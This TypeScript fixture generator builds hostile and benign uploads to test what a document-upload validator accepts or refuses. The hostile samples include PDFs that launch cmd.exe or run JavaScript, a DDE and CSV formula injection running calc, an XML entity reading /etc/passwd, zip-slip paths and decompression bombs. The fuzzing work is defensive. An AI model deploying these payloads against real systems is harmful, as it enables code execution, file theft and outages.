// Longer than the rule: one table names every sort of file with what must become of it, and a reader compares its lines.
import { crc32, deflateSync } from 'node:zlib';
import { letter, outward, workbook, zipOf } from './hostile-zips.ts';
import { Random } from './random.ts';
import { restriction } from './restricted-pdfs.ts';

type Verdict = 'taken' | 'refused';

/**
 * A file as somebody sends it. `verdict` says what must become of it where the unit's documents are taken, `asPiece` where
 * suppliers send pieces of their papers; without one, either.
 */
export interface MadeFile {
  /** Of which sort it is. */
  sort: string;
  name: string;
  bytes: Buffer;
  verdict?: Verdict;
  asPiece?: Verdict;
}

type Maker = (random: Random) => Omit<MadeFile, 'sort'>;

/** A PDF of these objects with its table; the first is the catalogue. */
function pdf(objects: readonly (string | Buffer)[], tail = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const places: number[] = [];
  let at = (parts[0] as Buffer).length;
  for (const [index, object] of objects.entries()) {
    const bytes = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ]);
    places.push(at);
    parts.push(bytes);
    at += bytes.length;
  }
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  return Buffer.concat([
    ...parts,
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R ${tail} >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  ]);
}
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>';
const acting = (more: string, ...others: (string | Buffer)[]) =>
  pdf([`<< /Type /Catalog /Pages 2 0 R ${more} >>`, PAGES, PAGE, ...others]);
const honestPdf = (random: Random) =>
  pdf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, PAGE, `(${random.next()})`]);
const stream = (content: Buffer, dictionary: string) =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${content.length} >>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ]);

const ACTIONS = [
  '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
  '/OpenAction << /S /Launch /F (cmd.exe) >>',
  '/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>',
  '/AA << /WC << /S /JavaScript /JS (x) >> >>',
  '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>',
  '/OpenAction << /S /SubmitForm /F (http://ejemplo.example/) >>',
  '/OpenAction << /S /ImportData /F (otro.fdf) >>',
  '/Open#41ction << /#53 /Java#53cript /J#53 (x) >>',
];
const LINKED = ['externalLinkPath', 'oleObject', 'attachedTemplate', 'image'];
const PNG_HEAD = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
const chunk = (type: string, data: Buffer) => {
  const [size, sum, said] = [Buffer.alloc(4), Buffer.alloc(4), Buffer.concat([Buffer.from(type), data])];
  size.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(said));
  return Buffer.concat([size, said, sum]);
};
function png(width: number, height: number, packed: Buffer): Buffer {
  const facts = Buffer.alloc(13);
  facts.writeUInt32BE(width, 0);
  facts.writeUInt32BE(height, 4);
  facts.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    PNG_HEAD,
    chunk('IHDR', facts),
    chunk('IDAT', packed),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
const NAMES = [
  '../../etc/passwd',
  'a\0.pdf',
  '\u202efdp.exe',
  'con.pdf',
  '.pdf',
  `${'n'.repeat(400)}.pdf`,
  'a/b\\c.pdf',
  'a.pdf.exe',
  '"; x="',
  '%2e%2e%2f.pdf',
  'á é.PDF',
  '',
];
const flipped = (bytes: Buffer, random: Random) => {
  const changed = Buffer.from(bytes);
  for (let times = 1 + random.below(12); times > 0; times -= 1)
    changed[random.below(changed.length)] = random.below(256);
  return changed;
};
const cut = (bytes: Buffer, random: Random) => bytes.subarray(0, 10 + random.below(bytes.length - 10));

const packedBefore = new Map<string, Buffer>();
/** So many zeros, packed so many times; each once, since they are the same in every file. */
function packedZeros(bytes: number, times: number): Buffer {
  const key = `${bytes} ${times}`;
  const known =
    packedBefore.get(key) ?? deflateSync(times === 1 ? Buffer.alloc(bytes) : packedZeros(bytes, times - 1));
  packedBefore.set(key, known);
  return known;
}
let bomb: Buffer | undefined;
const bombArchive = (): Buffer => (bomb ??= zipOf([{ name: 'a.txt', data: Buffer.alloc(60_000_000) }]));

/** Names of columns of each place where tables are imported. */
const HEADERS = [
  'RFC,Denominación o razón social,Giros,CLABE,Fecha de inscripción',
  'CODIGO_CONTRATO,TITULO_CONTRATO,IMPORTE_CONTRATO,FECHA_INICIO,PROVEEDOR_CONTRATISTA',
  'No,RFC,Nombre del Contribuyente,Situación del contribuyente,Publicación página SAT presuntos',
  'Proveedor,RFC,Dependencia,Sentido de Resolución,Monto',
  'Nombre,Ejercicio,Régimen,Adjudicación directa hasta,Fuente',
];
/** Cells as Excel, LibreOffice and older programs leave them in a file of text. */
const FOREIGN_CELLS =
  '1.234,50|12.500|1,234|1\'250,000.00|$1,250,000.00 M.N.|(1,200.00)|1.25E+06|25/05/2022 - 26/04/2021|14-08-19|44014|15/01/0226|2026-01-15xyz|="06700"|\'PQT|&amp;iacute;|PAPELERÃ\u008DA|Se\uFFFDal|#N/A|+52 1 473 732 0006 ext. 12|\u200B\u202E\u00AD|EDOMEX|6.46180110400000E+17'.split(
    '|',
  );

const MAKERS: Record<string, Maker> = {
  'table of another program': (random) => {
    const separator = random.pick([',', ';', '\t', '|']);
    const rows = Array.from({ length: random.below(5) }, () =>
      Array.from({ length: 5 }, () => random.pick(FOREIGN_CELLS)),
    );
    const lines = [random.pick(HEADERS).split(','), ...rows].map((cells) => cells.join(separator));
    const first = random.pick(['', `sep=${separator}\r\n`, 'Información actualizada al 1 de enero\r\n']);
    const text = first + lines.join(random.pick(['\r\n', '\n', '\r']));
    const bytes = Buffer.from(text, random.pick(['utf8', 'latin1', 'utf16le'] as const));
    if (bytes.length > 0 && random.below(2) === 0) bytes[random.below(bytes.length)] = 0xf1;
    return { name: 'padron.csv', bytes, verdict: 'refused' };
  },
  'workbook of converted cells': (random) => ({
    name: 'padron.xlsx',
    bytes: workbook(
      Array.from({ length: 5 }, (_, place) =>
        random
          .pick([
            '<c r="@"><v>46107.4375</v></c>',
            '<c r="@" t="d"><v>2026-03-26T10:30:00</v></c>',
            '<c r="@" t="b"><v>1</v></c>',
            '<c r="@" t="e"><v>#REF!</v></c>',
            '<c r="@"><v>6.46180110400000000E17</v></c>',
            '<c r="@"><f>SUM(A2:A9)</f></c>',
            '<c r="@" t="inlineStr"><is><t>RFC_x000D_ (obligatorio)</t></is></c>',
          ])
          .replace('@', `${'ABCDE'.charAt(place)}1`),
      ).join(''),
    ),
    verdict: 'taken',
  }),
  'workbook of LibreOffice': (random) => ({
    name: 'padron.ods',
    bytes: zipOf([
      { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet') },
      {
        name: 'content.xml',
        data: Buffer.from(
          `<office:document-content><table:table table:name="P"><table:table-row table:number-rows-repeated="${random.below(2_000_000)}"><table:table-cell table:number-columns-repeated="${random.below(20_000)}" office:value-type="date" office:date-value="2026-03-26T10:30:00"/></table:table-row></table:table></office:document-content>`,
        ),
      },
    ]),
  }),
  'honest pdf': (random) => ({
    name: 'oficio.pdf',
    bytes: honestPdf(random),
    verdict: 'taken',
    asPiece: 'taken',
  }),
  'honest image': (random) => {
    const width = 20 + random.below(400);
    const rows = Buffer.alloc(20 * (1 + width * 3), random.below(5));
    return {
      name: 'foto.png',
      bytes: png(width, 20, deflateSync(rows)),
      verdict: 'refused',
      asPiece: 'taken',
    };
  },
  'honest workbook': (random) => ({
    name: 'tabla.xlsx',
    bytes: workbook(`<c r="A1"><v>${random.below(1e6)}</v></c>`),
    verdict: 'taken',
  }),
  'honest letter': (random) => ({
    name: 'carta.docx',
    bytes: letter(`Texto ${random.next()}`),
    verdict: 'taken',
  }),
  'honest archive': (random) => ({
    name: 'planos.zip',
    bytes: zipOf([{ name: 'plano.pdf', data: honestPdf(random) }]),
    verdict: 'taken',
  }),
  'acting pdf': (random) => ({
    name: 'acto.pdf',
    bytes: acting(random.pick(ACTIONS), `(${random.next()})`),
    verdict: 'refused',
  }),
  'acting pdf, packed': (random) => {
    const inner = Buffer.from(`5 0 << /S /JavaScript /JS (x${random.next()}) >>`);
    const packed = stream(deflateSync(inner), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode');
    return { name: 'oculto.pdf', bytes: acting('/OpenAction 5 0 R', packed), verdict: 'refused' };
  },
  'pdf with a password': (random) => ({
    name: 'clave.pdf',
    bytes: pdf(
      [
        '<< /Type /Catalog /Pages 2 0 R >>',
        PAGES,
        PAGE,
        '<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O (o) /U (u) >>',
      ],
      `/Encrypt 4 0 R /ID [(${random.below(1e9)}) (x)]`,
    ),
    verdict: 'refused',
  }),
  'pdf that restricts its readers': (random) => {
    const { dictionary, trailer } = restriction(random.bytes(16));
    const bytes = pdf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, PAGE, dictionary], trailer(4));
    return { name: 'restringido.pdf', bytes, verdict: 'taken', asPiece: 'taken' };
  },
  'pdf that restricts its readers and acts': (random) => {
    const { dictionary, trailer, encrypt } = restriction(random.bytes(16));
    const inner = Buffer.from(`6 0 << /S /JavaScript /JS (x${random.next()}) >>`);
    const packed = stream(encrypt(5, deflateSync(inner)), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode');
    const start = '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>';
    const bytes = pdf([start, PAGES, PAGE, dictionary, packed], trailer(4));
    return { name: 'restringido.pdf', bytes, verdict: 'refused' };
  },
  'pdf with a filled form': (random) => {
    const value = Buffer.from(`Ficticia ${random.next()}`, 'utf16le').swap16().toString('hex');
    const more = `/V <feff${value}> /DA (/Helv ${random.below(90)} Tf) /Rect [1 1 ${random.below(300)} 90]`;
    const bytes = pdf([
      '<< /Type /Catalog /Pages 2 0 R /AcroForm << /NeedAppearances true /Fields [4 0 R] >> >>',
      PAGES,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (razon) /F 4 ${more} >>`,
    ]);
    return { name: 'llenado.pdf', bytes, verdict: 'taken', asPiece: 'taken' };
  },
  'pdf bomb': (random) => {
    const [megabytes, times] = [1 + random.below(20), random.below(3)];
    const content = packedZeros(megabytes * 1_000_000, times + 1);
    const filters = '/FlateDecode '.repeat(times + 1);
    return {
      name: `bomba${random.below(1e6)}.pdf`,
      bytes: acting('', stream(content, `/Type /ObjStm /N 1 /First 4 /Filter [${filters}]`)),
    };
  },
  'pdf without end': (random) => ({
    name: 'hondo.pdf',
    bytes: acting('', random.pick(['[', '<<', '<</A ', '(']).repeat(1_000 + random.below(20_000))),
  }),
  'pdf in a ring': (random) => ({
    name: `anillo${random.below(1e6)}.pdf`,
    bytes: pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [2 0 R 2 0 R] /Count ${random.pick([1, -1, 1e9])} /Parent 2 0 R >>`,
      PAGE,
    ]),
  }),
  'cut pdf': (random) => ({
    name: 'cortado.pdf',
    // Without the end of its last line it would still be whole.
    bytes: cut(honestPdf(random).subarray(0, -1), random),
    verdict: 'refused',
  }),
  'changed pdf': (random) => ({ name: 'cambiado.pdf', bytes: flipped(honestPdf(random), random) }),
  'pdf that is also an archive': (random) => ({
    name: random.pick(['dos.pdf', 'dos.zip']),
    bytes: Buffer.concat([honestPdf(random), zipOf([{ name: 'a.txt', data: random.bytes(40) }])]),
  }),
  'page called pdf': (random) => ({
    name: 'pagina.pdf',
    bytes: Buffer.from(`<html><script>${random.next()}</script></html>`),
    verdict: 'refused',
  }),
  'image that is also a page': (random) => ({
    name: 'imagen.pdf',
    bytes: Buffer.concat([Buffer.from('GIF89a/*'), random.bytes(30), Buffer.from('*/=1;<script>x</script>')]),
    verdict: 'refused',
  }),
  'program called pdf': (random) => ({
    name: 'programa.pdf',
    bytes: Buffer.concat([
      Buffer.from(random.pick(['MZ', '\x7fELF', '#!/bin/sh\n', '\xca\xfe\xba\xbe']), 'latin1'),
      random.bytes(200),
    ]),
    verdict: 'refused',
  }),
  'odd name': (random) => ({ name: random.pick(NAMES), bytes: honestPdf(random) }),
  'archive bomb': (random) => ({
    name: 'bomba.zip',
    bytes: Buffer.concat([bombArchive(), Buffer.from(String(random.next()))]),
    verdict: 'refused',
  }),
  'archive that lies about its size': (random) => ({
    name: `miente${random.below(1e6)}.zip`,
    bytes: zipOf([
      {
        name: 'a.txt',
        data: Buffer.alloc(200_000),
        claims: random.pick([4_294_967_295, 3_000_000_000]),
      },
    ]),
    verdict: 'refused',
  }),
  'archive that says it is smaller': (random) => ({
    name: `chico${random.below(1e6)}.zip`,
    bytes: zipOf([
      {
        name: 'a.txt',
        data: Buffer.alloc(200_000),
        claims: random.below(9),
      },
    ]),
    verdict: 'refused',
  }),
  'archive that leaves its folder': (random) => ({
    name: 'sale.zip',
    bytes: zipOf([
      {
        name: random.pick(['../../x.txt', '/etc/x.txt', 'C:\\x.txt', '..\\x.txt', 'a/../../x.txt']),
        data: random.bytes(20),
      },
    ]),
    verdict: 'refused',
  }),
  'archive with a link': (random) => ({
    name: 'enlace.zip',
    bytes: zipOf([{ name: `a${random.below(99)}`, data: Buffer.from('/etc/passwd'), mode: 0o120777 }]),
    verdict: 'refused',
  }),
  'archive with a program': (random) => ({
    name: 'trae.zip',
    bytes: zipOf([
      {
        name: random.pick(['x.exe', 'x.js', 'x.html', 'x.docm', 'x.zip', 'x.scr', 'x.bat', 'x.svg']),
        data: random.bytes(50),
      },
    ]),
    verdict: 'refused',
  }),
  'encrypted archive': (random) => ({
    name: 'cifrado.zip',
    bytes: zipOf([{ name: 'a.txt', data: random.bytes(50), flags: 0x801 }]),
    verdict: 'refused',
  }),
  'archive of many': (random) => ({
    name: 'muchos.zip',
    bytes: zipOf(
      Array.from({ length: 300 + random.below(700) }, (_, index) => ({
        name: `${index}.txt`,
        data: Buffer.alloc(0),
        method: 0,
      })),
    ),
  }),
  'archive with one name twice': (random) => ({
    name: 'doble.zip',
    bytes: zipOf([
      { name: 'a.txt', data: random.bytes(9) },
      { name: 'a.txt', data: random.bytes(9) },
    ]),
    verdict: 'refused',
  }),
  'empty archive': (random) => ({
    name: 'vacio.zip',
    bytes: zipOf([], 'c'.repeat(random.below(300))),
    verdict: 'refused',
  }),
  'cut archive': (random) => ({
    name: 'cortado.zip',
    bytes: cut(zipOf([{ name: 'a.txt', data: random.bytes(500), method: 0 }]), random),
    verdict: 'refused',
  }),
  'changed archive': (random) => ({
    name: 'cambiado.zip',
    bytes: flipped(zipOf([{ name: 'a.txt', data: random.bytes(200) }]), random),
  }),
  'workbook with formulas': (random) => ({
    name: 'formulas.xlsx',
    bytes: workbook(
      `<c r="A1"><f>HYPERLINK("http://${random.below(1e6)}.example")</f></c><c r="B1"><f>SUM(1,2)</f></c>`,
    ),
  }),
  'workbook with DDE': (random) => ({
    name: `dde${random.below(1e6)}.xlsx`,
    bytes: workbook(`<c r="A1"><v>${random.below(99)}</v></c>`, {
      parts: [
        {
          name: 'xl/externalLinks/externalLink1.xml',
          data: Buffer.from(
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
          ),
        },
      ],
    }),
    verdict: 'refused',
  }),
  'workbook that reaches out': (random) => ({
    name: 'fuera.xlsx',
    bytes: workbook('<c r="A1"><v>1</v></c>', {
      relationships: outward(random.pick(LINKED.slice(0, 2)), `file:///otro${random.below(99)}.xlsx`),
    }),
    verdict: 'refused',
  }),
  'workbook with macros': (random) => ({
    name: 'macros.xlsx',
    bytes: workbook('<c r="A1"><v>1</v></c>', {
      parts: [{ name: 'xl/vbaProject.bin', data: random.bytes(300) }],
    }),
    verdict: 'refused',
  }),
  'workbook with entities': (random) => ({
    name: `entidades${random.below(1e6)}.xlsx`,
    bytes: workbook(`<c r="A1"><v>1</v></c>`, {
      parts: [
        {
          name: 'xl/sharedStrings.xml',
          data: Buffer.from(
            `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd"><!ENTITY c "${'&b;'.repeat(random.below(50))}">]><sst>&c;</sst>`,
          ),
        },
      ],
    }),
  }),
  'workbook of long tags': (random) => ({
    name: 'etiquetas.xlsx',
    bytes: workbook(`<c ${'a="1" '.repeat(20_000 + random.below(20_000))}/>`),
  }),
  'letter with a far template': (random) => ({
    name: 'plantilla.docx',
    bytes: letter('x', outward('attachedTemplate', `http://${random.below(99)}.example/x.dotm`)),
    verdict: 'refused',
  }),
  'letter with entities': (random) => ({
    name: 'carta.docx',
    bytes: letter(`&#x${random.below(1e6).toString(16)};&a;]]>`),
  }),
  'drawing that acts': (random) => ({
    name: 'logo.svg',
    bytes: Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>${random.next()}</script><image href="http://x.example/a"/><foreignObject/></svg>`,
    ),
    verdict: 'refused',
  }),
  'image of endless dots': (random) => ({
    name: 'grande.png',
    bytes: png(1 + random.below(2 ** 31 - 2), 60_000, deflateSync(Buffer.alloc(1_000))),
    verdict: 'refused',
  }),
  'image bomb': (random) => ({
    name: 'bomba.png',
    bytes: png(100, 1 + random.below(1_000), packedZeros(20_000_000, 1)),
    verdict: 'refused',
  }),
  'cut image': (random) => ({
    name: 'foto.jpg',
    bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), random.bytes(300)]),
    verdict: 'refused',
  }),
  'table of formulas': (random) => ({
    name: 'tabla.csv',
    bytes: Buffer.from(`rfc,nombre\n=cmd|' /C calc'!A0,@SUM(${random.below(99)})\n"sin cerrar,\0\n`),
    verdict: 'refused',
  }),
  'bytes of no kind': (random) => ({
    name: random.pick(['nada.pdf', 'nada.zip', 'nada.xlsx', 'nada.docx', 'nada']),
    bytes: random.bytes(1 + random.below(3_000)),
    verdict: 'refused',
  }),
  nothing: (random) => ({
    name: `vacio${random.below(1e6)}.pdf`,
    bytes: Buffer.alloc(0),
    verdict: 'refused',
  }),
};

const SORTS = Object.keys(MAKERS);

/** File number `index` of the corpus, always the same for the same seed; sorts take turns. */
export function madeFile(index: number, seed: number): MadeFile {
  const sort = SORTS[index % SORTS.length] as string;
  const make = MAKERS[sort] as Maker;
  const made = make(new Random(seed * 7_919 + index));
  // Suppliers may send less than the unit: what is neither a PDF nor an image is refused there, and so is what is hostile here.
  const asPiece = made.verdict === undefined ? undefined : 'refused';
  return { sort, ...(asPiece === undefined ? {} : { asPiece }), ...made };
}

/** How many sorts there are. */
export const SORTS_OF_FILES = SORTS.length;

/** Which of so many doors file number `index` comes to: every sort goes through all of them in turn. */
export const doorOf = (index: number, doors: number): number => Math.floor(index / SORTS.length) % doors;
